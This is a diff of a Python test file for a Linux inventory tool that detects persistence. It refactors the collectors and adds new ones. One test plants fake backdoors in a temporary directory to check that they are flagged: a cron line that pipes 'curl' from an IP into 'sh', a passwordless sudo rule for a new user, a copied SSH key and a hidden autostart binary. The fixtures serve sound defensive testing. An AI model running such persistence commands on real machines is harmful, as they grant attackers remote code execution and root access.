@@ -7,6 +7,7 @@ import os
 import shutil
 import socket
 import threading
+from functools import partial
 from pathlib import Path
 
 import pytest
@@ -14,10 +15,18 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from agent.canonical import canonical_bytes
-from agent.capture.inventory import ERROR_PREFIX, diff_snapshots, linux, summary_records, take_snapshot
+from agent.capture.inventory import (
+    ERROR_PREFIX,
+    default_collectors,
+    diff_snapshots,
+    linux_login,
+    linux_system,
+    summary_records,
+    take_snapshot,
+)
 from agent.capture.inventory.common import collect_listening
 from agent.capture.inventory.diff import RULES
-from agent.capture.inventory.registry import default_collectors
+from agent.capture.inventory.machine import Machine
 
 DATA = Path(__file__).resolve().parent.parent / "data" / "inventory"
 
@@ -190,10 +199,11 @@ def test_snapshot_details_are_made_fit_for_the_journal():
 
 
 def test_other_oses_get_only_the_portable_collectors():
-    assert set(default_collectors("darwin")) == {"listening"}
-    assert set(default_collectors("win32")) == {"listening"}
+    assert set(default_collectors("darwin")) == {"listening", "remote_access"}
+    assert set(default_collectors("win32")) == {"listening", "remote_access"}
     assert set(default_collectors("linux")) == {
-        "packages", "services", "scheduled", "autostart", "users", "groups", "authorized_keys", "sudoers", "listening",
+        "packages", "services", "scheduled", "autostart", "users", "groups", "authorized_keys", "sudoers",
+        "shell_startup", "pam", "preload", "listening", "remote_access",
     }
 
 
@@ -201,21 +211,19 @@ def test_other_oses_get_only_the_portable_collectors():
 
 
 @pytest.fixture
-def root(tmp_path, monkeypatch):
+def root(tmp_path):
     """A small machine under tmp_path: /etc files from tests/data/inventory, homes for alice and bob."""
     etc = tmp_path / "etc"
     for sub in ("cron.d", "cron.daily", "xdg/autostart", "sudoers.d", "ssh", "init.d", "rc2.d"):
         (etc / sub).mkdir(parents=True)
     homes = {name: tmp_path / "home" / name for name in ("alice", "bob")}
-    passwd = (DATA / "passwd").read_text()
-    for name, home in homes.items():
+    for home in homes.values():
         (home / ".ssh").mkdir(parents=True)
         (home / ".config" / "autostart").mkdir(parents=True)
-        passwd = passwd.replace(f"/home/{name}:", f"{home}:")
-    (etc / "passwd").write_text(passwd)
+    shutil.copy(DATA / "passwd", etc / "passwd")
     shutil.copy(DATA / "group", etc / "group")
     shutil.copy(DATA / "crontab", etc / "crontab")
-    (etc / "sudoers").write_text((DATA / "sudoers").read_text().replace("/etc/", f"{etc}/"))
+    shutil.copy(DATA / "sudoers", etc / "sudoers")
     (etc / "sudoers.d" / "90-ops").write_text("%ops ALL=(ALL) ALL\n")
     (etc / "sudoers.d" / "README.txt").write_text("bob ALL=(ALL) ALL\n")  # sudo skips names with a dot
     (etc / "ssh" / "sshd_config").write_text("PasswordAuthentication no\n")
@@ -225,66 +233,64 @@ def root(tmp_path, monkeypatch):
     (etc / "init.d" / "ssh").write_text("#!/bin/sh\n")
     (etc / "init.d" / "old-daemon").write_text("#!/bin/sh\n")
     os.symlink("../init.d/ssh", etc / "rc2.d" / "S01ssh")
-    spool = tmp_path / "spool"
-    spool.mkdir()
+    spool = tmp_path / "var" / "spool" / "cron" / "crontabs"
+    spool.mkdir(parents=True)
     shutil.copy(DATA / "crontab.user", spool / "alice")
-    monkeypatch.setattr(linux, "ETC", str(etc))
-    monkeypatch.setattr(linux, "CRON_SPOOLS", (str(spool),))
-    monkeypatch.setattr(linux, "PIP_SYSTEM_GLOBS", (str(tmp_path / "usr-local" / "python3*" / "dist-packages"),))
-    return {"etc": etc, "homes": homes, "spool": spool, "tmp": tmp_path}
+    return {"etc": etc, "homes": homes, "spool": spool, "tmp": tmp_path, "machine": Machine(str(tmp_path))}
 
 
-def file_collectors():
+def file_collectors(m: Machine):
     return {
-        "users": linux.collect_users,
-        "groups": linux.collect_groups,
-        "authorized_keys": linux.collect_authorized_keys,
-        "sudoers": linux.collect_sudoers,
-        "scheduled": linux.collect_scheduled,
-        "autostart": linux.collect_autostart,
+        "users": partial(linux_login.collect_users, m),
+        "groups": partial(linux_login.collect_groups, m),
+        "authorized_keys": partial(linux_login.collect_authorized_keys, m),
+        "sudoers": partial(linux_login.collect_sudoers, m),
+        "scheduled": partial(linux_system.collect_scheduled, m),
+        "autostart": partial(linux_system.collect_autostart, m),
     }
 
 
 def test_collectors_read_the_files(root):
-    snap = take_snapshot(file_collectors())
-    alice_keys = str(root["homes"]["alice"] / ".ssh" / "authorized_keys")
+    snap = take_snapshot(file_collectors(root["machine"]))
+    alice_keys = "/home/alice/.ssh/authorized_keys"
     assert snap["users"]["alice"]["admin_groups"] == ["sudo"]
     assert snap["groups"]["sudo"]["members"] == ["alice"]
     keys = {k: v for k, v in snap["authorized_keys"].items() if v["source"] == alice_keys}
     assert len(keys) == 6 and all(v["user"] == "alice" for v in keys.values())
     assert any(k.endswith(" #2") for k in keys)  # the same key again, as a cert-authority
     sudo_files = {v["source"] for v in snap["sudoers"].values()}
-    assert sudo_files == {str(root["etc"] / "sudoers"), str(root["etc"] / "sudoers.d" / "90-ops")}
-    assert f"{root['etc']}/sudoers.d/90-ops: %ops ALL=(ALL) ALL" in snap["sudoers"]
+    assert sudo_files == {"/etc/sudoers", "/etc/sudoers.d/90-ops"}
+    assert "/etc/sudoers.d/90-ops: %ops ALL=(ALL) ALL" in snap["sudoers"]
     commands = [v.get("command") for v in snap["scheduled"].values()]
     assert "/usr/bin/php /var/www/cron.php" in commands
-    assert any(v.get("user") == "alice" and v["source"] == str(root["spool"] / "alice") for v in snap["scheduled"].values())
-    assert f"{root['etc']}/cron.daily/logrotate" in snap["scheduled"]
-    assert snap["autostart"][f"{root['etc']}/xdg/autostart/nextcloud.desktop"]["exec"] == "/usr/bin/nextcloud --background"
+    assert any(v.get("user") == "alice" and v["source"] == "/var/spool/cron/crontabs/alice"
+               for v in snap["scheduled"].values())
+    assert snap["scheduled"]["/etc/cron.daily/logrotate"]["path"] == "/etc/cron.daily/logrotate"
+    assert snap["autostart"]["/etc/xdg/autostart/nextcloud.desktop"]["exec"] == "/usr/bin/nextcloud --background"
     assert not any(k.startswith(ERROR_PREFIX) for items in snap.values() for k in items)
     assert "alicePw123" not in repr(snap) and "tok-S3cretBackup" not in repr(snap)
 
 
-def test_sysv_services_enabled_by_start_links(root, monkeypatch):
-    items = linux._sysv_services()
+def test_sysv_services_enabled_by_start_links(root):
+    items = linux_system._sysv_services(root["machine"])
     assert items["init.d: ssh"]["enabled"] == "enabled"
     assert items["init.d: old-daemon"]["enabled"] == "disabled"
 
 
 def test_every_way_back_in_left_behind_is_flagged(root, tmp_path):
     alice_key = (DATA / "authorized_keys").read_text().splitlines()[1]  # alice's key, now also for bob
-    before = take_snapshot(file_collectors())
+    before = take_snapshot(file_collectors(root["machine"]))
 
     etc, bob = root["etc"], root["homes"]["bob"]
     with open(etc / "passwd", "a") as f:
-        f.write(f"eve:x:1002:1002::{tmp_path}/home/eve:/bin/bash\n")
+        f.write("eve:x:1002:1002::/home/eve:/bin/bash\n")
     (etc / "group").write_text((etc / "group").read_text().replace("sudo:x:27:alice", "sudo:x:27:alice,bob"))
     (bob / ".ssh" / "authorized_keys").write_text(alice_key + "\n")
     (etc / "sudoers.d" / "99-eve").write_text("eve ALL=(ALL) NOPASSWD: ALL\n")
     (etc / "cron.d" / "updater").write_text("*/10 * * * * root curl -s http://198.51.100.7/x | sh\n")
     (bob / ".config" / "autostart" / "helper.desktop").write_text("[Desktop Entry]\nName=Helper\nExec=/tmp/.helper\n")
 
-    after = take_snapshot(file_collectors())
+    after = take_snapshot(file_collectors(root["machine"]))
     changes = diff_snapshots(before, after)
     flagged = {(c["category"], c["op"]) for c in changes if c["way_back_in"]}
     assert flagged == {
@@ -302,9 +308,9 @@ def test_every_way_back_in_left_behind_is_flagged(root, tmp_path):
 def test_a_file_that_is_not_regular_is_an_error_not_a_hang(root):
     keys = root["homes"]["bob"] / ".ssh" / "authorized_keys"
     os.mkfifo(keys)
-    snap = take_snapshot({"authorized_keys": linux.collect_authorized_keys}, timeout=20)
+    snap = take_snapshot({"authorized_keys": partial(linux_login.collect_authorized_keys, root["machine"])}, timeout=20)
     errors = [v for k, v in snap["authorized_keys"].items() if k.startswith(ERROR_PREFIX)]
-    assert errors == [{"source": str(keys), "error": f"{keys} is not a regular file"}]
+    assert errors == [{"source": "/home/bob/.ssh/authorized_keys", "error": f"{keys} is not a regular file"}]
 
 
 # -- listening ports and the real machine -----------------------------------------------
@@ -333,7 +339,7 @@ def test_listening_reports_an_error_when_sockets_cannot_be_listed():
 
 @pytest.mark.skipif(not os.path.exists("/etc/passwd"), reason="needs a Linux machine")
 def test_real_snapshot_of_this_machine():
-    snap = take_snapshot()
+    snap = take_snapshot(default_collectors())
     assert set(snap) == set(default_collectors())
     assert snap["users"]["root"]["uid"] == 0
     assert "root" in snap["groups"]
@@ -350,9 +356,9 @@ def test_real_snapshot_of_this_machine():
 def test_a_symlink_loop_is_an_error_not_a_crash(root):
     keys = root["homes"]["bob"] / ".ssh" / "authorized_keys"
     os.symlink(keys, keys)
-    snap = take_snapshot({"authorized_keys": linux.collect_authorized_keys}, timeout=20)
+    snap = take_snapshot({"authorized_keys": partial(linux_login.collect_authorized_keys, root["machine"])}, timeout=20)
     (error,) = [v for k, v in snap["authorized_keys"].items() if k.startswith(ERROR_PREFIX)]
-    assert error["source"] == str(keys) and "symbolic links" in error["error"]
+    assert error["source"] == "/home/bob/.ssh/authorized_keys" and "symbolic links" in error["error"]
 
 
 # -- properties of the diff ---------------------------------------------------------------
